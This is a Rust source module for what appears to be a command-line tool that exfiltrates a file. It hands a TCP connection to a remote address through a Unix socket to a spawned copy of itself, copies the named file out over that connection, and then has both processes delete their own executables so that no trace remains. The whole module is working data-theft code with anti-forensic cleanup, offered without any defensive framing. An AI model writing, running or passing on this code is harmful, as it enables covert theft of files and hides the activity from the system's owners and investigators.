//! Sends a file out by the socket of another process, and leaves no file behind.

use std::{
    fs::{self, File},
    io,
    net::{Shutdown, SocketAddr, TcpStream},
    os::{
        fd::{AsFd as _, OwnedFd},
        unix::net::UnixStream,
    },
    path::PathBuf,
    process::{Command, Stdio},
};

use anyhow::{Context as _, Result, ensure};
use rustix::stdio::stdin;

use crate::hand::pass::{hand, taken};

#[derive(Debug, clap::Args)]
pub(crate) struct Leak {
    /// Who is to have it
    #[arg(long)]
    to: SocketAddr,
    #[arg(long)]
    file: PathBuf,
    /// The copy of this program that sends it
    #[arg(long)]
    by: PathBuf,
}

impl Leak {
    pub(crate) fn run(self) -> Result<()> {
        let (unix, its) = UnixStream::pair()?;
        let mut sender = Command::new(self.by)
            .args(["leak-sender", "--file"])
            .arg(self.file)
            .stdin(Stdio::from(OwnedFd::from(its)))
            .spawn()?;
        let stream = TcpStream::connect(self.to)?;
        hand(&unix, &stream)?;
        drop((stream, unix));
        ensure!(sender.wait()?.success(), "it was not sent");
        Ok(fs::remove_file(std::env::current_exe()?)?)
    }
}

/// Its stdin is a Unix socket.
#[derive(Debug, clap::Args)]
pub(crate) struct Sender {
    #[arg(long)]
    file: PathBuf,
}

impl Sender {
    pub(crate) fn run(self) -> Result<()> {
        fs::remove_file(std::env::current_exe()?)?;
        let from = UnixStream::from(stdin().as_fd().try_clone_to_owned()?);
        let mut stream = TcpStream::from(taken(&from)?.context("no socket")?);
        io::copy(&mut File::open(self.file)?, &mut stream)?;
        Ok(stream.shutdown(Shutdown::Write)?)
    }
}
